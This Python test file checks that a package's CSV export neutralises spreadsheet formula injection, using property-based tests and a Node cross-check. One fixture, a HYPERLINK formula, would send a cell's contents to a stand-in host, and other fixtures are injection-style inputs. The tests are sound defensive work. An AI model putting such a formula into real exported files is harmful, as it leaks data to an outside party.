"""Cells that a spreadsheet would calculate: written as text, and read back exactly."""

import csv
import io
import json
import re
import shutil
import subprocess
from importlib import resources

import numpy as np
import pandas
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pyro_vae import VAE, data, likelihoods, reuse
from pyro_vae.files.csv_cells import choose_quoting, protect, restore

HOSTILE = '=HYPERLINK("http://a.example/?"&A1,"x")'
TEXTS = st.one_of(st.text(), st.text("'=+-@\t\r\n 1.e\uff0b\uff1da,\""))


@settings(max_examples=500, deadline=None)
@given(TEXTS)
@example("'=1")
@example("''-1")
@example("'-1+")
def test_every_text_is_read_back_and_none_is_a_formula(text):
    cell = protect(text)
    assert restore(cell) == text
    assert cell in (text, f"'{text}")
    if cell[:1] in tuple("=+-@\t\r\n\uff0b\uff0d\uff1d\uff20"):
        assert re.fullmatch(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?", cell, re.ASCII)


@pytest.mark.parametrize("text", ["-1.5", "+2", "-.5e-3", "1e5", "a", "", "a=1", "'s", "x-y"])
def test_numbers_and_plain_text_stay(text):
    assert protect(text) == text


@pytest.mark.parametrize("text", ["=1", "+a", "-a", "-1+1", "@x", "\tx", "\r=1", "\n", " =1", "-"])
def test_formulas_stand_behind_a_quote(text):
    assert protect(text) == f"'{text}"


@settings(max_examples=200, deadline=None)
@given(st.lists(TEXTS.filter(lambda text: "\0" not in text), min_size=1))
def test_every_cell_is_one_cell(texts):
    file = io.StringIO(newline="")
    csv.writer(file, lineterminator="\n", quoting=choose_quoting(texts)).writerow(texts)
    (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert row == texts
    # Outside of quotes, only the end of the row ends a line.
    bare = re.sub(r'"(?:[^"]|"")*"', "", file.getvalue())
    assert "\r" not in bare
    assert bare.count("\n") == 1


def test_codes_hold_no_formula_and_their_labels_are_read_back(tmp_path):
    kinds = [HOSTILE, "'=1", "-1.5 m", "x\r=cmd", "@a", "plain, 'quoted'"]
    frame = pandas.DataFrame({"a": np.arange(60.0) % 7, "b": np.arange(60.0) % 5})
    frame["=kind"] = [kinds[i % len(kinds)] for i in range(60)]
    frame.to_parquet(tmp_path / "t.parquet")
    table = data.table(tmp_path / "t.parquet", label="=kind")
    path = reuse.embed(VAE(2, 1, likelihood=likelihoods.Normal), table, tmp_path / "codes.csv")
    with path.open(newline="") as file:
        rows = list(csv.reader(file))
    assert {len(row) for row in rows} == {5}
    labels = {row[2] for row in rows[1:]}
    assert not {label for label in labels if label[:1] in tuple("=+-@\t\r")}
    assert set(map(restore, labels)) == set(kinds)
    numbers = ["z_mean_0", "z_scale_0"]
    codes = data.table(path, columns=numbers, label="label")
    assert set(codes.label_names) == set(kinds)
    assert all(kind == "float64" for kind in pandas.read_csv(path)[numbers].dtypes)


@pytest.mark.skipif(shutil.which("node") is None, reason="no JavaScript")
def test_the_page_saves_cells_as_the_command_writes_them():
    script = resources.files("pyro_vae.compare").joinpath("page.js").read_text("utf-8")
    lines = [
        line for line in script.splitlines() if re.match(r" *const (FORMULA|PLAIN|prot)", line)
    ]
    assert len(lines) == 3
    texts = [
        "=1",
        "'=1",
        "-1.5",
        "-1.5 m",
        "\t1",
        "\r",
        "a",
        "''-1",
        "'-a",
        "\uff1d1",
        " +a",
        "-",
        "",
    ]
    code = "\n".join(lines) + f"\nconsole.log(JSON.stringify({json.dumps(texts)}.map(protect)))"
    done = subprocess.run(["node", "-e", code], capture_output=True, text=True, check=True)
    assert json.loads(done.stdout) == [protect(text) for text in texts]
